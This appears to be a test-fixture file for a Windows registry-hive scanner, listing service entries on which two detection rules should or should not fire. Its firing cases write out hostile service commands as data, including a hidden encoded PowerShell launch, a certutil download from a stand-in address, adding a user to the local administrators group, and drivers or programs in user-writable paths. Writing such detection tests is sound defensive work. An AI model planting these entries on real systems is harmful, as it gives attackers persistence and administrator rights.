"""Hives on which the rules of `service_images` speak up, and hives on which they stay silent."""

from hivecheck.rules.examples.example import Example, Examples
from hivecheck.rules.rule import Severity

EXAMPLES = (
    Examples(
        "svc-imagepath-lolbin",
        fires_on=(
            Example(
                "a service that runs PowerShell through cmd",
                r"""
                [ControlSet001\Services\a1b2c3]
                Type = dword 16
                Start = dword 3
                ImagePath = expand "%COMSPEC% /b /c start /b /min powershell -nop -w hidden -enc AAAA"
                """,
                cites=("%COMSPEC% /b /c start /b /min powershell -nop -w hidden -enc AAAA",),
                severity=Severity.CRITICAL,
            ),
            Example(
                "cmd spelled with slashes",
                r"""
                [ControlSet001\Services\a1b2c3]
                Type = dword 16
                Start = dword 2
                ImagePath = expand "C:/Windows/System32/cmd.exe /c foo"
                """,
                cites=(r"C:/Windows/System32/cmd.exe /c foo",),
                severity=Severity.CRITICAL,
            ),
            Example(
                "PowerShell in quotes, with slashes",
                r"""
                [ControlSet001\Services\a1b2c3]
                Type = dword 16
                Start = dword 2
                ImagePath = expand "\u{22}C:/Windows/System32/WindowsPowerShell/v1.0/powershell.exe\u{22} -enc foo"
                """,
                cites=(r'"C:/Windows/System32/WindowsPowerShell/v1.0/powershell.exe" -enc foo',),
                severity=Severity.CRITICAL,
            ),
            Example(
                "a dot behind the name",
                r"""
                [ControlSet001\Services\a1b2c3]
                Type = dword 16
                Start = dword 2
                ImagePath = expand "C:\Windows\System32\regsvr32.exe. /s C:\x.dll"
                """,
                cites=(r"C:\Windows\System32\regsvr32.exe. /s C:\x.dll",),
                severity=Severity.CRITICAL,
            ),
            Example(
                "short names",
                r"""
                [ControlSet001\Services\a1b2c3]
                Type = dword 16
                Start = dword 2
                ImagePath = expand "C:\Windows\System32\WINDOW~1\v1.0\POWERS~1.EXE -enc foo"
                """,
                cites=(r"C:\Windows\System32\WINDOW~1\v1.0\POWERS~1.EXE -enc foo",),
                severity=Severity.CRITICAL,
            ),
            Example(
                "cmd by a variable of the machine",
                r"""
                [ControlSet001\Control\Session Manager\Environment]
                BAR = sz "C:\Windows\System32\cmd.exe"
                [ControlSet001\Services\a1b2c3]
                Type = dword 16
                Start = dword 2
                ImagePath = expand "%BAR% /c foo"
                """,
                cites=("%BAR% /c foo", r"C:\Windows\System32\cmd.exe"),
                severity=Severity.CRITICAL,
            ),
            Example(
                "a tool that is no interpreter",
                r"""
                [ControlSet001\Services\fetch]
                Type = dword 16
                Start = dword 2
                ImagePath = sz "C:\Windows\System32\certutil.exe -urlcache -f http://192.0.2.1/a a"
                """,
                cites=(r"C:\Windows\System32\certutil.exe -urlcache -f http://192.0.2.1/a a",),
                severity=Severity.HIGH,
            ),
            Example(
                "a tool of Windows that is no service",
                r"""
                [ControlSet001\Services\helpdesk]
                Type = dword 16
                Start = dword 2
                ImagePath = sz "C:\Windows\System32\net.exe localgroup administrators helpdesk /add"
                """,
                cites=(r"C:\Windows\System32\net.exe localgroup administrators helpdesk /add",),
                severity=Severity.HIGH,
            ),
            Example(
                "a script behind a wrapper",
                r"""
                [ControlSet001\Services\task]
                Type = dword 16
                Start = dword 2
                ImagePath = expand "C:\Program Files\nssm\nssm.exe"
                [ControlSet001\Services\task\Parameters]
                Application = expand "powershell.exe"
                AppParameters = expand "-File C:\scripts\a.ps1"
                """,
                cites=("powershell.exe",),
                severity=Severity.MEDIUM,
            ),
        ),
        silent_on=(
            Example(
                "switches and addresses that end like an interpreter",
                r"""
                [ControlSet001\Services\agent]
                Type = dword 16
                Start = dword 2
                ImagePath = expand "\u{22}C:\Program Files\Agent\agent.exe\u{22} /cmd http://server/bash"
                """,
            ),
            Example(
                "the Windows Installer",
                r"""
                [ControlSet001\Services\msiserver]
                Type = dword 16
                Start = dword 3
                ImagePath = expand "%systemroot%\system32\msiexec.exe /V"
                """,
            ),
            Example(
                "programs that only share the name of a tool",
                r"""
                [ControlSet001\Services\at]
                Type = dword 16
                Start = dword 2
                ImagePath = sz "C:\agent\bin\at.exe"
                """,
            ),
        ),
    ),
    Examples(
        "svc-path-user-writable",
        fires_on=(
            Example(
                "a driver under CPU-Z's name that a service of each boot needs",
                r"""
                [ControlSet001\Services\evil]
                Type = dword 16
                Start = dword 2
                DependOnService = multi "cpuz155"
                ImagePath = expand "%ProgramFiles%\x\x.exe"
                [ControlSet001\Services\cpuz155]
                Type = dword 1
                Start = dword 3
                ImagePath = expand "\??\C:\Windows\Temp\cpuz155_x64.sys"
                """,
                cites=(r"\??\C:\Windows\Temp\cpuz155_x64.sys",),
                severity=Severity.HIGH,
            ),
            Example(
                "a driver that CPU-Z unpacks",
                r"""
                [ControlSet001\Services\cpuz143]
                Type = dword 1
                Start = dword 3
                ImagePath = expand "\??\C:\Windows\Temp\cpuz143\cpuz143_x64.sys"
                """,
                cites=(r"\??\C:\Windows\Temp\cpuz143\cpuz143_x64.sys",),
                severity=Severity.MEDIUM,
            ),
            Example(
                "a driver beside that of CPU-Z, by another name",
                r"""
                [ControlSet001\Services\cpuz143]
                Type = dword 1
                Start = dword 3
                ImagePath = expand "\??\C:\Windows\Temp\cpuz143\kit.sys"
                """,
                cites=(r"\??\C:\Windows\Temp\cpuz143\kit.sys",),
                severity=Severity.HIGH,
            ),
            Example(
                "a program of ProgramData behind a wrapper",
                r"""
                [ControlSet001\Services\agent]
                Type = dword 16
                Start = dword 2
                ImagePath = expand "%SystemRoot%\System32\srvany.exe"
                [ControlSet001\Services\agent\Parameters]
                Application = sz "C:\ProgramData\agent\a.exe"
                """,
                cites=(r"C:\ProgramData\agent\a.exe",),
                severity=Severity.HIGH,
            ),
            Example(
                "a program in ProgramData",
                r"""
                [ControlSet001\Services\updhost]
                Type = dword 16
                Start = dword 2
                ImagePath = sz "C:\ProgramData\upd\updhost.exe -k"
                """,
                cites=(r"C:\ProgramData\upd\updhost.exe -k",),
                severity=Severity.HIGH,
            ),
            Example(
                "a program on another machine",
                r"""
                [ControlSet001\Services\agent]
                Type = dword 16
                Start = dword 2
                ImagePath = sz "\\10.0.0.1\s\a.exe"
                """,
                cites=(r"\\10.0.0.1\s\a.exe",),
                severity=Severity.HIGH,
            ),
            Example(
                "a stream of another file",
                r"""
                [ControlSet001\Services\agent]
                Type = dword 16
                Start = dword 2
                ImagePath = sz "C:\Windows\System32\notepad.exe:evil.exe"
                """,
                cites=(r"C:\Windows\System32\notepad.exe:evil.exe",),
                severity=Severity.HIGH,
            ),
            Example(
                "a shadow copy by its device",
                r"""
                [ControlSet001\Services\agent]
                Type = dword 16
                Start = dword 2
                ImagePath = sz "\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\a.exe"
                """,
                cites=(r"\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\a.exe",),
                severity=Severity.HIGH,
            ),
            Example(
                "a folder that only looks like Windows",
                r"""
                [ControlSet001\Services\agent]
                Type = dword 16
                Start = dword 2
                ImagePath = sz "C:\Windows \System32\a.exe"
                """,
                cites=(r"C:\Windows \System32\a.exe",),
                severity=Severity.HIGH,
            ),
            Example(
                "a text that runs",
                r"""
                [ControlSet001\Services\agent]
                Type = dword 16
                Start = dword 2
                ImagePath = sz "C:\Windows\System32\a.txt"
                """,
                cites=(r"C:\Windows\System32\a.txt",),
                severity=Severity.HIGH,
            ),
            Example(
                "a variable of the machine that leads to where users write",
                r"""
                [ControlSet001\Control\Session Manager\Environment]
                myroot = sz "C:\Users\Public"
                [ControlSet001\Services\agent]
                Type = dword 16
                Start = dword 2
                ImagePath = expand "%myroot%\a.exe"
                """,
                cites=(r"%myroot%\a.exe", r"C:\Users\Public"),
                severity=Severity.HIGH,
            ),
            Example(
                "a service's DLL below Users",
                r"""
                [ControlSet001\Services\W64Time]
                Type = dword 32
                Start = dword 2
                ImagePath = expand "%SystemRoot%\System32\svchost.exe -k TimeService"
                [ControlSet001\Services\W64Time\Parameters]
                ServiceDll = expand "C:\Users\Public\w64time.dll"
                """,
                cites=(r"C:\Users\Public\w64time.dll",),
                severity=Severity.HIGH,
            ),
        ),
        silent_on=(
            Example(
                "a program of its own folder behind a wrapper",
                r"""
                [ControlSet001\Services\minion]
                Type = dword 16
                Start = dword 2
                ImagePath = expand "C:\salt\bin\ssm.exe"
                [ControlSet001\Services\minion\Parameters]
                Application = expand "C:\salt\bin\python.exe"
                AppParameters = expand "-E -s C:\salt\bin\Scripts\minion -c C:\salt\conf -l quiet"
                """,
            ),
            Example(
                "an argument in ProgramData, and Defender's platform",
                r"""
                [ControlSet001\Services\agent]
                Type = dword 16
                Start = dword 2
                ImagePath = sz "\u{22}C:\Program Files\Agent\agent.exe\u{22} -log C:\ProgramData\Agent\agent.log"
                [ControlSet001\Services\WinDefend]
                ImagePath = expand "C:\ProgramData\Microsoft\Windows Defender\platform\4.18.1904.1-0\MsMpEng.exe"
                """,
            ),
        ),
    ),
)
